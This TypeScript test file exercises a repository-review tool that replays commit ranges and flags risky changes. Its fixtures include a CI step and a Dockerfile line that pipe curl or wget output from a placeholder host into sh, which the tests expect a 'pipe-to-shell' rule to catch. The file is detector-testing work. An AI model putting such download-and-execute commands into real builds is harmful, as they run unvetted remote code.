/** The tool that plays real repositories, on one that is made up. */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { runProcess } from '../cli/command.ts';
import { Repository } from '../repository.ts';
import { root } from '../syntax.ts';
import type { Outcome } from './outcome.ts';
import { readRanges } from './ranges.ts';
import { ownerAndName } from './repositories.ts';

const good = 'FROM alpine:3.22\nUSER 1000\nCMD ["true"]\n';
const workflow = 'on: push\njobs:\n  a:\n    steps:\n      - run: curl http://example.com/x | sh\n';

let folder: string;
/** The commits: what was there, a harmless edit of it, and a bad one. */
let first: string;
let harmless: string;
let bad: string;

before(() => {
  folder = mkdtempSync(join(tmpdir(), 'layer-review-real-test-'));
  using made = Repository.create();
  const files = { Dockerfile: good, '.github/workflows/ci.yml': workflow, 'movie.bin': 'not on this machine' };
  first = made.commit('main', files);
  harmless = made.commit('main', { 'README.md': '# Shop\n', 'movie.bin': 'another', Dockerfile: `# Edited\n${good}` });
  bad = made.commit('main', { Dockerfile: 'FROM alpine:3.22\nRUN wget -qO- http://example.com/x | sh\n' });
  const clone = join(folder, 'acme+shop/repo');
  execFileSync('git', ['clone', '--quiet', '--bare', made.folder, clone]);
  const movie = made.tree(first).find(({ path }) => path === 'movie.bin')!.sha;
  rmSync(join(clone, 'objects', movie.slice(0, 2), movie.slice(2)));
  const rows = [
    ['acme/shop', first, harmless, 'A harmless edit'],
    ['acme/shop', harmless, bad],
    ['acme/shop', first, 'f'.repeat(40)],
    ['acme/other', first, bad],
  ];
  writeFileSync(
    join(folder, 'ranges.tsv'),
    [['repository', 'base', 'head'], ...rows].map((row) => row.join('\t')).join('\n'),
  );
});

after(() => rmSync(folder, { recursive: true }));

function real(...args: readonly string[]) {
  return runProcess(process.execPath, [join(root, 'test/real/real.ts'), '.', '--jobs', '1', ...args], folder);
}

function outcomesIn(file: string): Outcome[] {
  const lines = readFileSync(join(folder, file), 'utf8').trimEnd().split('\n');
  return lines.map((line) => JSON.parse(line));
}

describe('npm run real', () => {
  test('plays changes through the built action, and says what came of each', async () => {
    const { stdout, status, stderr } = await real('--ranges', 'ranges.tsv', '--output', 'first.jsonl');
    assert.equal(status, 0, stdout + stderr);
    const [other, one, two, absent] = outcomesIn('first.jsonl');
    assert.deepEqual([other!.verdict, other!.repository], ['skipped', 'acme/other']);
    assert.deepEqual([absent!.verdict, absent!.why], ['skipped', `the repository has no commit ${'f'.repeat(40)}`]);

    assert.deepEqual([one!.verdict, one!.told, one!.unread, one!.violations], ['pass', [], [], undefined]);
    assert.ok(one!.mebibytes! > 20 && one!.seconds! > 0 && one!.requests! > 2 && one!.title);

    assert.equal(two!.verdict, 'fail');
    const comment = two!.told.find(({ rule }) => rule.includes('pipe-to-shell'));
    assert.deepEqual([comment!.path, comment!.line, comment!.severity], ['Dockerfile', 2, 'high']);
    assert.match(comment!.text, /^High: .*pipe-to-shell/);
    assert.match(stdout, new RegExp(`fail +\\d comments.* acme/shop ${harmless.slice(0, 7)}\\.\\.${bad.slice(0, 7)}`));
    assert.match(stdout, /^4 ranges: 2 skipped, 1 pass, 1 fail$/m);
    assert.match(stdout, /^commented: 1, with \d comments$/m);
  });

  test('says what hung, and what is different from another run', async () => {
    const only = ['--only', `..${bad.slice(0, 7)}`, '--seconds', '0', '--against', 'first.jsonl'];
    const { stdout, status } = await real('--ranges', 'ranges.tsv', ...only);
    assert.equal(status, 1);
    assert.match(stdout, /^hung:\n {2}acme\/shop \w+\.\.\w+: no end within 0 s$/m);
    assert.match(stdout, /^ {2}fail → hung$/m);
    assert.match(stdout, /^ {2}- Dockerfile:2 high .*pipe-to-shell/m);
  });

  test('scans whole trees, and tries each file by itself', async () => {
    const { stdout, status, stderr } = await real('--trees', '--output', 'trees.jsonl');
    assert.equal(status, 0, stdout + stderr);
    const outcomes = outcomesIn('trees.jsonl');
    assert.deepEqual(outcomes.map(({ kind, path = '' }) => `${kind} ${path}`).sort(), [
      'file .github/workflows/ci.yml',
      'file Dockerfile',
      'scan ',
    ]);
    for (const { told } of outcomes) assert.ok(told.some(({ rule }) => rule === 'pipe-to-shell'));
    assert.match(stdout, /^ +1 {2}high +pipe-to-shell$/m);

    const short = await real('--trees', '--seconds', '0', '--against', 'trees.jsonl');
    assert.equal(short.status, 1);
    assert.match(short.stdout, /^2 files: 2 hung$/m);
    assert.match(short.stdout, /^acme\+shop\/repo \w+ Dockerfile\n {2}fail → hung\n {2}- Dockerfile:/m);
  });

  test('knows whose a repository is by its folder', () => {
    assert.deepEqual(ownerAndName('/mirror/acme+shop.js/repo'), { owner: 'acme', name: 'shop.js' });
    for (const folder of ['/mirror/acme/shop', '/c++/repo', '/mirror/+shop'])
      assert.deepEqual(ownerAndName(folder), {});
  });

  test('reads lists of ranges with tabs or as JSON, and knows a repository by several names', () => {
    const repositories = ['acme+shop/repo', 'acme/site.git', 'tool'].map((name) => ({ name, directory: `/${name}` }));
    const [base, head] = ['a'.repeat(40), 'b'.repeat(7)];
    for (const [named, directory] of [
      ['acme/shop', '/acme+shop/repo'],
      ['acme+shop/repo', '/acme+shop/repo'],
      ['acme/site', '/acme/site.git'],
      ['tool', '/tool'],
      ['acme', undefined],
    ] as const) {
      const range = { repository: named, base, head };
      const expected = [{ ...range, directory }];
      assert.deepEqual(readRanges(`# A list\n\n${named}\t${base}\t${head}\tmore\n`, repositories), expected);
      assert.deepEqual(readRanges(JSON.stringify([range]), repositories), expected);
    }
    assert.throws(() => readRanges(`a\t${base}\t${head}\na\tmain\t${head}\n`, []), /a: main is no commit/);
  });
});
